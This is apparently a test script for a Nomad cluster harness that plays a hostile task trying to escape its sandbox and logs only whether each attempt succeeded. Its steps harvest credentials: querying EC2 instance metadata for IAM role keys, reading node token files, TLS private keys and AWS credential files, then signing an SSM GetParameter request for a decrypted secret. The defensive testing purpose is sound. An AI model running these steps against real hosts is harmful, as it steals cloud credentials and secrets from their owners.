#!/bin/bash
# What a hostile task on a Nomad client tries (`cargo xtask cluster escape`):
# the instance metadata token, the node's token files, its TLS keys, and SSM
# with any credentials it finds. One line per attempt, tab-separated:
#   KRAKEN-ESCAPE <attempt> <target> <outcome> <detail>
# outcome: refused, absent (no such file where the task looks) or GOT. It
# never prints what it read: a byte count at most (secrets never in logs).
# Its environment (the job's): IMDS, SSM, REGION, SSM_NAME, TOKEN_FILES,
# TLS_KEYS (space-separated paths).
set -u
# The report goes to a file in the allocation's shared directory, which the
# harness reads from the client's disk as soon as it is complete (Nomad's
# log collector writes its files when it gets round to it).
exec >"${NOMAD_ALLOC_DIR}/escape.out" 2>&1

line() {
  printf 'KRAKEN-ESCAPE\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$(printf '%s' "$4" | tr '\t\n' '  ' | cut -c1-240)"
}

printf 'KRAKEN-ESCAPE-ID\t%s\n' "$(id)"

# curl_try ATTEMPT TARGET CURL-ARGS...: GOT on HTTP 200, else refused with
# curl's own error or the status.
body=""
curl_try() {
  local attempt=$1 target=$2 resp code
  shift 2
  resp=$(curl -sS -m 5 -w '\n%{http_code}' "$@" 2>&1)
  code=${resp##*$'\n'}
  body=${resp%$'\n'*}
  if [ "$code" = 200 ]; then
    line "$attempt" "$target" GOT "HTTP 200, ${#body} bytes"
    return 0
  fi
  line "$attempt" "$target" refused "HTTP $code: $body"
  body=""
  return 1
}

token=""
if curl_try imds_token "PUT $IMDS/latest/api/token" -X PUT \
  -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "$IMDS/latest/api/token"; then
  token=$body
fi
# IMDSv1 (no token), as an old SDK would: the same address, the same rule.
curl_try imds_credentials "GET $IMDS/latest/meta-data/iam/security-credentials/" \
  "$IMDS/latest/meta-data/iam/security-credentials/" || true

# read_try ATTEMPT PATH: read it whole, print only whether it could.
read_try() {
  local err
  if err=$(cat -- "$2" 2>&1 >/dev/null); then
    line "$1" "$2" GOT "read $(wc -c <"$2") bytes"
  elif [[ $err == *"No such file"* ]]; then
    line "$1" "$2" absent "$err"
  else
    line "$1" "$2" refused "$err"
  fi
}
for f in $TOKEN_FILES; do read_try token_file "$f"; done
for f in $TLS_KEYS; do read_try tls_key "$f"; done

# Credentials: the environment, instance metadata (with a token, if one
# came), then any file the task can read that holds a key pair.
ak=${AWS_ACCESS_KEY_ID:-} sk=${AWS_SECRET_ACCESS_KEY:-} st=${AWS_SESSION_TOKEN:-}
where="environment"
looked="environment: none"
if [ -z "$ak" ] && [ -n "$token" ]; then
  role=$(curl -sS -m 5 -H "X-aws-ec2-metadata-token: $token" \
    "$IMDS/latest/meta-data/iam/security-credentials/" 2>/dev/null | head -n1)
  creds=$(curl -sS -m 5 -H "X-aws-ec2-metadata-token: $token" \
    "$IMDS/latest/meta-data/iam/security-credentials/$role" 2>/dev/null)
  ak=$(printf '%s' "$creds" | sed -n 's/.*"AccessKeyId" *: *"\([^"]*\)".*/\1/p')
  sk=$(printf '%s' "$creds" | sed -n 's/.*"SecretAccessKey" *: *"\([^"]*\)".*/\1/p')
  st=$(printf '%s' "$creds" | sed -n 's/.*"Token" *: *"\([^"]*\)".*/\1/p')
  where="instance metadata"
fi
[ -n "$token" ] || looked="$looked; instance metadata: no token"
if [ -z "$ak" ]; then
  for f in $TOKEN_FILES /etc/kraken/agent.env /root/.aws/credentials "${HOME:-/nonexistent}/.aws/credentials"; do
    if [ -r "$f" ] && grep -qiE 'aws_access_key_id' "$f" 2>/dev/null; then
      ak=$(grep -iE '^ *aws_access_key_id *=' "$f" | head -n1 | sed 's/^[^=]*= *//')
      sk=$(grep -iE '^ *aws_secret_access_key *=' "$f" | head -n1 | sed 's/^[^=]*= *//')
      st=$(grep -iE '^ *aws_session_token *=' "$f" | head -n1 | sed 's/^[^=]*= *//')
      where=$f
      break
    fi
  done
  looked="$looked; files: none readable with a key pair"
fi
target="ssm:GetParameter $SSM_NAME at $SSM"
if [ -z "$ak" ] || [ -z "$sk" ]; then
  line ssm "$target" refused "no credentials to sign with ($looked)"
else
  extra=()
  [ -z "$st" ] || extra=(-H "X-Amz-Security-Token: $st")
  curl_try ssm "$target (credentials from $where)" --aws-sigv4 "aws:amz:$REGION:ssm" \
    --user "$ak:$sk" "${extra[@]}" -H 'X-Amz-Target: AmazonSSM.GetParameter' \
    -H 'Content-Type: application/x-amz-json-1.1' \
    -d "{\"Name\":\"$SSM_NAME\",\"WithDecryption\":true}" "$SSM/" || true
fi
printf 'KRAKEN-ESCAPE-DONE\n'
# Held until the harness, having read the report, purges the job: Nomad may
# delete a finished allocation's directory at once.
sleep 600
